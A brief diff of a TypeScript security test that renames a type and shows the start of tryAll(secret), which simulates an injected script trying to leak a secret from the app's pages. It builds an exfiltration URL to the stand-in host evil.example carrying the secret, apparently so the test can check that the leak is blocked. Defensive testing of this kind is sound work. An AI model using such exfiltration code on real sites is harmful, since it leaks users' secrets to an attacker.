@@ -172,10 +172,10 @@ const pages = `/ /login /register /otp-verification /forgot-password /reset-pass
   /how-suggestions-work /terms-condition /privacy-policy /no/such/page /home /suggestion /summary-details /biodata
   /privacy-setting /account /notifications /backend/api/docs`.split(/\s+/);
 
-type Tried = { done: string[]; alarmed: boolean };
+type ScriptAttempts = { done: string[]; alarmed: boolean };
 
 /** What a script would try that got in; run by the page itself, since what a debugger runs is let do more. */
-function tryAll(secret: string): Promise<Tried> {
+function tryAll(secret: string): Promise<ScriptAttempts> {
   const evil = `https://evil.example/?${secret}`;
   const attempts: Record<string, () => unknown> = {
     markup: () => {
